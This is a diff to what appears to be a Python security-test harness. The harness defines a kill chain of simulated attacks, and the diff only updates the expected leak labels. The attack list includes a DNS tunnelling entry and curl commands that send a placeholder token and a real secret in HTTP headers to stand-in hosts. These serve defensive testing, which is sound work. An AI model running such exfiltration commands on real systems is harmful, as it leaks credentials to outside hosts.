@@ -297,10 +297,10 @@ def kill_chain() -> list[Attack]:
                ["dns", "192.0.2.53", "udp", "--tunnel", "files.pythonhosted.test"], (), logged="dns"),
         Attack("exfiltration", "sdnctl1 sends its placeholder to another allowed host",
                ["curl", "--cacert", "{ca}", "-H", f"Authorization: Bearer {PLACEHOLDER}", "https://deb.debian.test/"],
-               (), vm="sdnctl1", logged="credential", leaks=("placeholder",)),
+               (), vm="sdnctl1", logged="credential", leaks=("placeholder", "secret")),
         Attack("exfiltration", "sdnctl1 sends the real secret over allowed HTTPS to an allowed host",
                ["curl", "--cacert", "{ca}", "-H", "X-Debug: {secret}", "https://api.github.test/"],
-               (), vm="sdnctl1", logged="credential", leaks=("secret",)),
+               (), vm="sdnctl1", logged="credential", leaks=("placeholder", "secret")),
     ]
 
 
